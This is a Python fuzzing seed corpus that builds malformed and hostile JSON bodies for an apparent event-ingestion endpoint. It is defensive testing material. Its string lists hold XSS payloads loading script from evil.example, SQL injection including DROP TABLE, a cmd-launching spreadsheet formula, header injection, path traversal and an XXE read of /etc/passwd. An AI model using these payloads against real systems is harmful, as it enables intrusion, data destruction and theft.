"""Texts and bodies that have broken other programs: a fixed corpus that fuzzers begin with."""

import json
from collections.abc import Iterator

TEXTS = (
    # Markup, in each place where a page may have a text.
    "<script>alert(1)</script>",
    "</title><script src=//evil.example/x.js></script>",
    "</textarea></style></script><svg/onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)' x='",
    "x onmouseover=alert(1) y",
    "`onclick=alert(1)`",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://docs.example",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://evil.example/?q=<b>",
    "&lt;script&gt;&#x3C;&quot;&amp;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<x>]]>",
    "]]><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    # Languages of templates and formats.
    "{{ 7 * 7 }}",
    "{% import os %}",
    "${7*7}",
    "#{7*7}",
    "%(name)s %s %n %d",
    "{0} {n} {numbers} {} {!r} {x.__class__}",
    "{0.__init__.__globals__}",
    # SQL.
    "' OR '1'='1",
    "'; DROP TABLE view; --",
    '" OR ""="',
    "\\'; SELECT pg_sleep(9); --",
    "1) UNION SELECT name FROM sqlite_master --",
    "/* */ ' -- ; ",
    "%' ESCAPE '\\",
    "$$; SELECT 1; $$",
    ":name ? $1 %s",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1",
    # Cells of a spreadsheet.
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    # What a terminal obeys, and what ends a line of a log or an event of a stream.
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;owned\x07",
    "\x9b31m\x9d0;owned\x9c",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "a\ndata: {}\n\nevent: beat\n",
    '"}\n{"level":"error","event":"forged"}',
    "a\x0bb\x0cc\x1cd\x1de\x85f\u2028g\u2029h",
    "a\x00b",
    "\x08\x08\x08\x7f",
    # Unicode.
    "\u202egnp.exe",
    "\u2066a\u2069\u200b\u200d\ufeff",
    "\ud800",
    "\udfff\ud800x",
    "Z\u0301\u0302\u0303" * 20,
    "\U0001f469\u200d\U0001f4bb \U000e0041",
    "\ufb01 \u1e9e \u0130 \u0131",
    "\ufffe\uffff\U0010ffff",
    "日本語 العربية",
    # Names with a meaning somewhere, numbers, paths.
    "__proto__",
    "constructor",
    "(other)",
    "NaN",
    "Infinity",
    "-9223372036854775809",
    "1e999",
    "0x10",
    "٣",
    "../../../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "%00%0a%0d%1b%ff",
    "%c0%ae%c0%ae/",
    "%ED%A0%80",
    "utm_source=a&utm_medium=b&utm_campaign=%3Cb%3E",
    "a/b",
    "a/b/c/d",
    "a" * 300,
    "é" * 1_100,
    "",
    " ",
)

_VIEW = {
    "t": "view",
    "s": "00000000-0000-4000-8000-000000000001",
    "l": "00000000000000000000000000000001",
    "p": "/",
}
VALUES = (
    *("null", "true", "false", "0", "-0", "-1", "1.5", "1e999", "-1e999", "1e-999", "NaN"),
    *("Infinity", "-Infinity", "9223372036854775807", "9223372036854775808"),
    *("-9223372036854775809", "1" + "0" * 400, "9" * 3_000, "-" + "9" * 3_000, "0." + "3" * 900),
    *('""', '"\\u0000"', '"/\\u0000"', '"\\ud800"', '"/\\ud800"', '"/\\udfff\\ud800"'),
    *('"\\ud83d\\ude00"', "[]", "{}", "[[[]]]", '{"p":{"p":{}}}', '["view"]', '{"t":"view"}'),
    *("1E+2", "01", "+1", ".5", "1.", "'x'", '"\\x41"', '"\t"', '"/' + "a" * 1_100 + '"'),
    *('"' + "\\u202e" * 3 + '"', '"https://[::1"', '"https://a.example:99999/"', '"//"'),
    *('"http://xn--/"', '"http://\u0130.example/"', '"http://' + "a" * 300 + '.example/"'),
)
"""Values of JSON, and some that are none, as they stand in a body."""
KEYS = (*"tslprdocvaqwznkucf", "from", "", "__proto__", "T", "\u202e")
WHOLES = (
    b"",
    b" ",
    b"\x00",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"null",
    b"true",
    b"0",
    b'""',
    b"[]",
    b"{}",
    b"{",
    b'{"t"',
    b'{"t":"view",}',
    b"{'t':'view'}",
    b"{}{}",
    b'{"t":"view"} x',
    b"[" * 4_096,
    b'{"a":' * 800,
    b"[" * 2_000 + b"]" * 2_000,
    b'{"t":' + b"[" * 1_500 + b"]" * 1_500 + b"}",
    b'{"p":"\xff"}',
    b'{"p":"\xed\xa0\x80"}',
    b'{"p":"\xc0\xaf"}',
    b'{"p":"\xf4\x90\x80\x80"}',
    b"9" * 4_000,
    b"-" + b"9" * 4_095,
    b"1e" + b"9" * 4_000,
    b'"' + b"a" * 4_094 + b'"',
    b'"' + b"\\u0000" * 600 + b'"',
    b"t=view&p=/",
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    b"a" * 4_096,
    b"a" * 4_097,
    b"a" * 20_000,
)


def bodies() -> Iterator[bytes]:
    """Yield some thousand bodies: hostile wholes, and messages with one hostile key."""
    yield from WHOLES
    for kind in ("view", "beat", "leave", "event"):
        for key in KEYS:
            yield from (_with(kind, key, value) for value in VALUES)
            yield from (_with(kind, key, json.dumps(text)) for text in TEXTS)
    for text in TEXTS:
        yield _with("event", "n", json.dumps("search"), {"k": json.dumps(text)})
        yield _with("event", "n", json.dumps("outbound"), {"u": json.dumps("/" + text)})
        yield _with("view", "p", json.dumps("/" + text), {"q": json.dumps(text)})
        yield _with("view", "r", json.dumps("https://" + text), {"p": json.dumps("/%" + text)})


def _with(kind: str, key: str, value: str, more: dict[str, str] | None = None) -> bytes:
    """Return a message with a key written out; it stands twice where a message has it anyway."""
    fields = {name: json.dumps(text) for name, text in (_VIEW | {"t": kind}).items()}
    pairs = [*fields.items(), *(more or {}).items(), (key, value)]
    text = ",".join(f"{json.dumps(name)}:{said}" for name, said in pairs)
    return f"{{{text}}}".encode(errors="surrogatepass")
